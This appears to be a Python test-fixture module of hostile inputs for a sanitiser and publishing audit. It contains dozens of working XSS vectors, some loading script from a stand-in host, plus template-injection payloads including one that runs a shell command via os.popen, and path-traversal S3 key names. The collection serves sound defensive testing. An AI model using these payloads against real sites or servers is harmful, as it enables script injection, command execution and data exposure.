"""Hostile inputs: XSS vectors, template-injection payloads and hostile S3 keys.

The XSS vectors follow the OWASP XSS Filter Evasion Cheat Sheet (casing, encodings, whitespace
and control characters inside schemes, malformed tags, breakouts) plus SVG/MathML, mutation-XSS
and Markdown-specific ones. Every vector runs script (or would, in an older browser) in at least
one raw context: as markup, inside a quoted attribute, or as unsanitised Markdown;
`test_audit_controls.py` proves that the audit flags each one in that context, so a vector that
is harmless even unsanitised cannot pad the corpus.
"""

from __future__ import annotations

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

# Markup vectors: dangerous as HTML (Markdown passes raw HTML through, so they reach the
# sanitiser from every format).
HTML_VECTORS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src": '<script src="https://xss.example/x.js"></script>',
    "script-src-protocol-relative": "<SCRIPT SRC=//xss.example/.j>",
    "script-slash-attribute": '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    "script-extra-brackets": '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "script-split-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-unclosed-in-attribute": '<img """><SCRIPT>alert("XSS")</SCRIPT>">',
    "title-breakout": "</title><script>alert(1)</script>",
    "ld-json-breakout": '</script><script>alert("ld")</script>',
    "textarea-breakout": "</textarea><img src=x onerror=alert(1)>",
    "style-breakout": "</style><svg onload=alert(1)>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-mixed-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "img-onerror-entities": '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    "img-slash-separators": '<img/src="x"/onerror=alert(1)>',
    "img-eval-src": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "img-javascript-src": "<IMG SRC=\"javascript:alert('XSS');\">",
    "img-javascript-mixed-case": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "img-grave-accents": "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "img-decimal-entities": (
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
        "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"
    ),
    "img-padded-decimal-entities": (
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
        "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114"
        "&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>"
    ),
    "img-hex-entities": (
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
        "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"
    ),
    "img-tab-in-scheme": "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "img-encoded-tab-in-scheme": "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "img-encoded-newline-in-scheme": "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "img-encoded-cr-in-scheme": "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "img-leading-controls": "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "a-javascript": '<a href="javascript:alert(1)">click</a>',
    "a-javascript-upper": '<a href="JAVASCRIPT:alert(1)">click</a>',
    "a-javascript-leading-space": '<a href="  javascript:alert(1)">click</a>',
    "a-javascript-named-colon": '<a href="javascript&colon;alert(1)">click</a>',
    "a-javascript-hex-first-letter": '<a href="&#x6A;avascript:alert(1)">click</a>',
    "a-javascript-named-tab": '<a href="java&Tab;script:alert(1)">click</a>',
    "a-javascript-newline": '<a href="java\nscript:alert(1)">click</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">click</a>',
    "a-vbscript-upper": '<a href="VBSCRIPT:MsgBox(1)">click</a>',
    "a-data-html": f'<a href="data:text/html;base64,{B64_SCRIPT}">click</a>',
    "a-onclick-on-safe-link": '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    "a-pointer-event-with-allowed-attributes": (
        '<a href="/" id="x" title="t" class="footnote" onpointerenter=alert(1)>x</a>'
    ),
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink-javascript": (
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'
    ),
    "svg-animate-onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-animate-href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        '<text x="20" y="20">click</text></a></svg>'
    ),
    "math-href": '<math href="javascript:alert(1)">CLICKME</math>',
    "math-xlink-href": '<math><mi xlink:href="javascript:alert(1)">click</mi></math>',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment-breakout": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "cdata-breakout": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "body-onload": "<body onload=alert(1)>",
    "body-background": "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "table-background": "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "td-style-url": '<table><tr><td style="text-align: left; background:url(javascript:alert(1))">'
    "x</td></tr></table>",
    "div-style-expression": '<div style="width: expression(alert(1));">x</div>',
    "div-style-javascript-url": '<div style="background-image: url(javascript:alert(1))">x</div>',
    "style-import": "<STYLE>@import'javascript:alert(1)';</STYLE>",
    "style-escaped-expression": "<STYLE>p{width:exp\\ression(alert(1))}</STYLE>",
    "link-stylesheet": '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "meta-refresh-javascript": (
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'
    ),
    "meta-refresh-data": (
        f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{B64_SCRIPT}">'
    ),
    "base-href": "<BASE HREF=\"javascript:alert('XSS');//\">",
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-svg": f'<embed src="data:image/svg+xml;base64,{B64_SVG}">',
    "form-action": '<form action="javascript:alert(1)"><input type=submit></form>',
    "button-formaction": '<form><button formaction="javascript:alert(1)">X</button></form>',
    "input-autofocus": "<input onfocus=alert(1) autofocus>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "custom-element-onclick": "<x onclick=alert(1)>click me</x>",
    "img-srcset": '<img src="/ok.png" srcset="javascript:alert(1) 1x">',
}

# Breakouts from a quoted attribute: dangerous where a field is written into an attribute
# (titles and summaries go into <meta content>, tag names into links...).
ATTRIBUTE_VECTORS: dict[str, str] = {
    "attr-double-quote-handler": '" onmouseover="alert(1)',
    "attr-double-quote-autofocus": '" autofocus onfocus="alert(1)" x="',
    "attr-single-quote-handler": "' onfocus='alert(1)' autofocus='",
    "attr-double-quote-script": '"><script>alert(1)</script>',
    "attr-single-quote-script": "'><script>alert(1)</script>",
    "attr-unquoted-handler": "x onmouseover=alert(1)",
}

# Markdown syntax that yields script URLs when rendered without a sanitiser.
MARKDOWN_VECTORS: dict[str, str] = {
    "md-link-javascript": "[click](javascript:alert(1))",
    "md-link-javascript-mixed-case": "[click](JaVaScRiPt:alert(1))",
    "md-link-javascript-entity": "[click](&#106;avascript:alert(1))",
    "md-link-javascript-percent": "[click](javascript:%61lert(1))",
    "md-image-javascript": "![x](javascript:alert(1))",
    "md-autolink-javascript": "<javascript:alert(1)>",
    "md-link-vbscript": "[click](vbscript:msgbox(1))",
    "md-link-data": f"[click](data:text/html;base64,{B64_SCRIPT})",
    "md-reference-javascript": "[click][ref]\n\n[ref]: javascript:alert(1)",
    "md-link-title-breakout": '[click](https://ok.example/ "x\\" onmouseover=\\"alert(1)")',
    # Heading `{#id}` attributes and fenced-code language names (issue 18).
    "md-heading-id-breakout": '## Heading {#"><script>alert(1)</script>}',
    "md-heading-id-img": '## Heading {#x"><img src=x onerror=alert(1)>}',
    "md-fence-language-breakout": '```"><script>alert(1)</script>\nx = 1\n```',
    "md-fence-language-img": '```python"><img src=x onerror=alert(1)>\nx = 1\n```',
}

# TeX math, published with `math: true` (hostile_site): each runs script in latex2mathml's own
# output (`test_audit_controls`' unsanitised-math context), which un-escapes what it is given.
MATH_VECTORS: dict[str, str] = {
    "md-math-href": "$\\href{javascript:alert(1)}{click}$",
    "md-math-display-href": "$$\\href{javascript:alert(1)}{click}$$",
    "md-math-text-script": "$\\text{<script>alert(1)</script>}$",
    "md-math-text-img": "$\\text{<img src=x onerror=alert(1)>}$",
    "md-math-style": "$\\style{background:url(javascript:alert(1))}{x}$",
    "md-math-color-breakout": '$\\color{red" onmouseover="alert(1)}{x}$',
    "md-math-mathrm-breakout": '$$\\mathrm{x"><svg onload=alert(1)>}$$',
}

XSS_VECTORS: dict[str, str] = {
    **HTML_VECTORS,
    **ATTRIBUTE_VECTORS,
    **MARKDOWN_VECTORS,
    **MATH_VECTORS,
}

# Jinja2 (and other engines') syntax: must be printed as typed, never evaluated. `evaluated`
# is what the page would show had the payload been compiled as a template.
TEMPLATE_PAYLOADS: dict[str, str] = {
    "jinja-arithmetic": "{{ 1234 * 5678 }}",
    "jinja-config": "{{ config }}",
    "jinja-self": "{{ self }}",
    "jinja-class-walk": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja-globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "jinja-include": '{% include "base.html" %}',
    "jinja-loop": "{% for x in range(3) %}looped{% endfor %}",
    "jinja-comment": "{# hidden #}",
    "jinja-raw-end": "{% endraw %}{{ 1234 * 5678 }}",
    "jinja-site-title": "{{ site_title }}",
    "expression-language": "${1234*5678}",
    "ruby-interpolation": "#{1234*5678}",
    "erb": "<%= 1234 * 5678 %>",
}
# What a compiled payload would produce; none of it may appear in any output.
TEMPLATE_EVALUATED = ("7006652", "loopedlooped", "<class 'object'>", "uid=", "<Config")

# S3 keys (as uploaded, before S3's own URL-encoding) that must never write outside the site's
# article namespace, whether they are refused or published under a slug.
HOSTILE_KEY_NAMES: dict[str, str] = {
    "dot-dot": "../../escape.md",
    "dot-dot-deep": "a/../../../etc/passwd.md",
    "dot-segment": "./here.md",
    "absolute": "/absolute.md",
    "double-slash": "nested//double.md",
    "backslash-traversal": "..\\..\\windows.md",
    "percent-encoded-dots": "%2e%2e/%2e%2e/encoded.md",
    "percent-encoded-slash": "..%2f..%2fslash.md",
    "double-encoded": "%252e%252e%252fdouble.md",
    "control-characters": "bell\x07and\x1bescape.md",
    "newline": "line\nbreak.md",
    "nul-free-unicode-dots": "\u2025\u2024/\uff0e\uff0e/fullwidth.md",
    "trailing-dot-dot": "folder/...md",
    "html-in-name": "<script>alert(1)</script>.md",
    "quote-in-name": '"onmouseover=alert(1) x=".md',
}
